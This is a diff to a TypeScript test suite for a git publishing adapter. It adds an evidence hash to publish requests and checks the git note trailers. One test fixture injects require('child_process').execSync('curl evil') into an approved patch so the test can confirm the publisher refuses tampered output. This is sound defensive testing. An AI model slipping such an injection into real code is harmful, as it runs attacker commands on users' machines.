@@ -56,6 +56,7 @@ describe('adapters/git: run workspace and output branch (real git)', () => {
       approvedPatchSha256: sha256Hex(patch),
       message: 'Fix the parser\n\nShopfloor-Run: r2\nApproved-by: alice\nAgent: command:node fix.js\n',
       note: '# Shopfloor run r2: PR_READY\n',
+      evidenceSha256: 'c'.repeat(64),
       date: '2026-11-21T20:00:00.000Z',
     };
     const out = await publisher.publish(req);
@@ -65,7 +66,8 @@ describe('adapters/git: run workspace and output branch (real git)', () => {
     assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Approved-by,valueonly)', 'shopfloor/r2'), 'alice');
     assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Shopfloor-Run,valueonly)', 'shopfloor/r2'), 'r2');
     assert.equal(git(t.repo, 'log', '-1', '--format=%an %cI', 'shopfloor/r2'), 'Dev 2026-11-21T20:00:00+00:00');
-    assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'show', out.commit), '# Shopfloor run r2: PR_READY');
+    // The note ends in the trailer that names the run and its evidence.json (format 1 of src/core/run/evidence-note.ts).
+    assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'show', out.commit), `# Shopfloor run r2: PR_READY\n\nShopfloor-Run: r2\nShopfloor-Evidence-SHA256: ${'c'.repeat(64)}`);
     assert.deepEqual(git(t.repo, 'diff', '--name-only', `${t.head}`, 'shopfloor/r2').split('\n'), ['index.js', 'logo.bin']);
     assert.equal(git(t.repo, 'diff', '--binary', '--no-color', t.head, 'shopfloor/r2'), patch.trimEnd(), 'the commit holds exactly the approved patch');
     assert.deepEqual([...execFileSync('git', ['show', 'shopfloor/r2:logo.bin'], { cwd: t.repo })], [0, 1, 2, 255, 0, 10, 13, 0]);
@@ -85,7 +87,7 @@ describe('adapters/git: run workspace and output branch (real git)', () => {
     fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
     const approved = (await ws.diff()).patch;
     const edited = approved.replace("'fixed'", "'fixed'; require('child_process').execSync('curl evil')");
-    const req = { runId: 'r3', baseCommit: t.head, patch: edited, approvedPatchSha256: sha256Hex(approved), message: 'Fix\n', note: 'n\n', date: '2026-11-21T20:00:00.000Z' };
+    const req = { runId: 'r3', baseCommit: t.head, patch: edited, approvedPatchSha256: sha256Hex(approved), message: 'Fix\n', note: 'n\n', evidenceSha256: 'b'.repeat(64), date: '2026-11-21T20:00:00.000Z' };
     await assert.rejects(new GitOutputPublisher(t.repo).publish(req), (e: Error) => e.name === 'OutputRefusedError' && /not the one the output gate approved/.test(e.message));
     assert.equal(git(t.repo, 'branch', '--list', 'shopfloor/*'), '');
     assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'list'), '');
